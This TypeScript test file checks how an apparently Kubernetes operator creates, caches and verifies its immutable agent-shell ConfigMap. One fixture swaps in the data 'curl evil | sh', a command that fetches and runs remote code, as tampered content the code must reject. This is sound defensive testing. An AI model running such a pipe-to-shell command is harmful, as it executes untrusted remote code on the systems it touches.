import t from 'tap';
import { apiError, FakeApi } from '../../../test/harness/fakes/fake-api.js';
import { LABELS } from '../../api/index.js';
import { agentShellFiles } from '../../render/index.js';
import type { KubeObject } from '../../runtime/index.js';
import { agentShellConfigMap } from '../agent/index.js';
import { AgentShellConfigMaps, agentShellMismatch, UNCACHED_GRACE_MS } from './agent-shell-configmaps.js';

const files = agentShellFiles(new Map([['agent-shell/lib.sh', 'lib() { :; }\n']]));
const collection = '/api/v1/namespaces/ns/configmaps';
const signal = new AbortController().signal;

t.test(
  'concurrent attempts make one ConfigMap; it is then known, first by the make, then by the cache',
  async (t) => {
    const api = new FakeApi();
    let now = 0;
    const agentShells = new AgentShellConfigMaps(() => now);
    t.same(agentShells.use('ns', files.name, undefined), undefined, 'a version never loaded cannot be made');
    agentShells.current(files);
    t.same(agentShells.use('ns', files.name, undefined), { name: files.name, ensure: files });
    const made = await Promise.all([1, 2, 3].map(() => agentShells.ensure(api, 'ns', files, signal)));
    t.same(made, [{ created: true }, { created: false }, { created: false }], 'one of them made it');
    t.equal(api.made('POST', collection).length, 1);
    t.same(agentShells.use('ns', files.name, undefined), { name: files.name }, 'before the cache shows it');
    t.same(
      agentShells.use('other', files.name, undefined),
      { name: files.name, ensure: files },
      'per namespace',
    );
    const cached = api.objects.get(`${collection}/${files.name}`);
    t.same(agentShells.use('ns', files.name, cached), { name: files.name });
    now += UNCACHED_GRACE_MS * 2;
    t.same(agentShells.use('ns', files.name, cached), { name: files.name }, 'its uid was checked: for good');
    t.same(
      agentShells.use('ns', files.name, undefined),
      { name: files.name, ensure: files },
      'gone from the cache once it showed it: made again',
    );
    const recreated = { ...cached, metadata: { ...cached?.metadata, uid: 'someone-elses' } };
    t.same(
      agentShells.use('ns', files.name, recreated),
      { name: files.name, ensure: files },
      'another uid: checked',
    );
  },
);

t.test('one already there is read and used only when it is exactly the agent shell', async (t) => {
  const ours = agentShellConfigMap('ns', files) as KubeObject & { data: Record<string, string> };
  const cases: [string, KubeObject, string | undefined][] = [
    ['the same', ours, undefined],
    [
      'other data',
      { ...ours, data: { 'agent-shell_lib.sh': 'curl evil | sh' } },
      'its data is not the agent shell',
    ],
    [
      'a key more',
      { ...ours, data: { ...ours.data, 'agent-shell_x.sh': '' } },
      'its data is not the agent shell',
    ],
    ['binaryData', { ...ours, binaryData: { x: 'eA==' } }, 'its data is not the agent shell'],
    ['mutable', { ...ours, immutable: false }, 'it is not immutable'],
    [
      'unlabelled',
      { ...ours, metadata: { ...ours.metadata, labels: {} } },
      `it has no label ${LABELS.agentShell}`,
    ],
  ];
  for (const [what, existing, problem] of cases) {
    if (problem) t.match(agentShellMismatch(existing, files), problem, what);
    else t.equal(agentShellMismatch(existing, files), undefined, what);
    const api = new FakeApi();
    api.seed(collection, { ...existing, metadata: { ...existing.metadata, uid: 'u-1' } });
    const agentShells = new AgentShellConfigMaps();
    agentShells.current(files);
    const got = await agentShells.ensure(api, 'ns', files, signal);
    t.equal(got.created, false, `${what}: not made`);
    t.equal(api.made('GET', `${collection}/${files.name}`).length, 1, `${what}: read after the 409`);
    if (problem) {
      t.match(
        got.conflict,
        `ConfigMap ${files.name} already exists and is not the operator's agent shell (${problem}`,
      );
      t.same(agentShells.use('ns', files.name, api.objects.get(`${collection}/${files.name}`)), {
        name: files.name,
        ensure: files,
      });
    } else t.notOk(got.conflict, `${what}: used`);
  }
});

t.test('an API failure is thrown (the reconcile retries) and nothing is remembered', async (t) => {
  const api = new FakeApi();
  api.failNext('POST', collection, apiError(500));
  const agentShells = new AgentShellConfigMaps();
  agentShells.current(files);
  await t.rejects(agentShells.ensure(api, 'ns', files, signal));
  t.same(agentShells.use('ns', files.name, undefined), { name: files.name, ensure: files });
  t.same(await agentShells.ensure(api, 'ns', files, signal), { created: true }, 'the next try makes it');
});

t.test(
  'the versions of the last few template sets are remembered, for attempts rendered before a reload',
  async (t) => {
    const agentShells = new AgentShellConfigMaps();
    const versions = Array.from({ length: 9 }, (_, i) =>
      agentShellFiles(new Map([['agent-shell/lib.sh', `v${i}`]])),
    );
    for (const v of versions) agentShells.current(v);
    t.same(
      agentShells.use('ns', versions[0]?.name ?? '', undefined),
      undefined,
      'the oldest of nine is forgotten',
    );
    t.same(agentShells.use('ns', versions[1]?.name ?? '', undefined), {
      name: versions[1]?.name,
      ensure: versions[1],
    });
  },
);
